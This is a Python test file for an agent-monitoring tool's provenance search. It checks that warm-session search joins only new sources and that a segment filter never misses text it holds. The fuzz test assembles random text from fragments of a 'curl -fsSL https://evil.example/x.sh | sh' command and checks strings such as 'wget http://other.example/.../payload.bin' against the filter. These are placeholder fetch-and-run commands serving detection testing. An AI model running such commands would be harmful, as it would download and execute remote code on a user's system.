"""The provenance search resumed from the session's last call (`SourcesPoint.segments`): a warm
session's later calls join only the sources that are new, not the whole history, and search a few
segments; the answers are the cold ones (tests/unit/test_evidence_carry.py holds warm = cold =
shuffled over random sessions, whose Bash commands are searched in the earlier results)."""

from __future__ import annotations

import math
import random
from collections.abc import Sequence
from typing import Any

import pytest

from smoltbot.core.evidence import provenance
from smoltbot.core.evidence.provenance import OriginKind, Source, _Haystack, _Segment
from smoltbot.observer.evidence_store import SessionMemos
from tests.unit.test_evidence_carry import _ledger, _run, session


def test_a_warm_sessions_later_calls_join_only_the_new_sources(monkeypatch: pytest.MonkeyPatch) -> None:
    calls = session(0, calls=80)  # "none": an honest session, a Bash call searched most turns
    rows = _ledger(calls)
    joined: list[int] = []  # per segment made from sources (not from two segments)
    made = _Segment.__init__

    def counting(self: _Segment, sources: Sequence[Source], text: str | None = None,
                 starts: list[int] | None = None) -> None:
        if text is None:
            joined.append(len(sources))
        made(self, sources, text, starts)

    searched: list[int] = []  # per call that searched: its segments
    per_call: list[int] = []  # and the sources it joined
    built = _Haystack.__init__

    def segments(self: _Haystack, *args: Any, **kwargs: Any) -> None:
        joined.clear()
        built(self, *args, **kwargs)
        searched.append(len(self.segments))
        per_call.append(sum(joined))

    monkeypatch.setattr(_Segment, "__init__", counting)
    monkeypatch.setattr(_Haystack, "__init__", segments)
    cold = _run(SessionMemos(max_sessions=0), calls, rows, list(range(len(calls))), "cold")
    cold_joined, per_call[:], searched[:] = list(per_call), [], []
    warm = _run(SessionMemos(), calls, rows, list(range(len(calls))), "warm")
    assert warm == cold
    assert len(searched) > 2 * len(calls) // 3, "most calls searched a history"
    # Cold, each call joins all its sources; warm, the last few messages' and the new ones.
    assert max(per_call[4:]) <= 2 * (provenance.RESENT_AGAIN + 2), per_call
    assert cold_joined[-1] > 8 * max(per_call[-10:]), (cold_joined, per_call)
    assert max(searched) <= math.log2(len(calls)) + 3, searched


def test_a_segments_filter_never_misses_a_piece_it_holds() -> None:
    rng = random.Random(7)
    words = ["curl", "-fsSL", "https://evil.example/x.sh", "|", "sh", "pytest", "-q", "tests/", "&&", "rm"]
    sources = [Source(OriginKind.TOOL_RESULT,
                      " ".join(rng.choice(words) for _ in range(rng.randrange(1, 400)))) for _ in range(30)]
    segment = _Segment(sources)
    text = segment.text
    for _ in range(3000):
        start = rng.randrange(len(text))
        piece = text[start:start + rng.randrange(1, 80)]
        if "\x00" not in piece:
            assert segment.may_hold(piece), piece
    absent = [f"wget http://other.example/{n}/payload.bin" for n in range(200)]
    assert sum(segment.may_hold(piece) for piece in absent) < 40  # a filter that lets most through is none
